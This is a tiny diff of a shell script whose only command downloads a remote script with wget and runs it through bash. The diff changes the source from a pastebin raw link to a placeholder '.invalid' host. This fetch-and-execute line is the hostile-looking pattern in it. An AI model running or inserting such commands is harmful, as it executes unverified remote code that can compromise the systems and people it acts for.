@@ -1,2 +1,2 @@
 #!/bin/sh
-bash -c "$(wget -qO- https://pastebin.com/raw/00000000)"
+bash -c "$(wget -qO- https://drop.invalid/raw/00000000)"
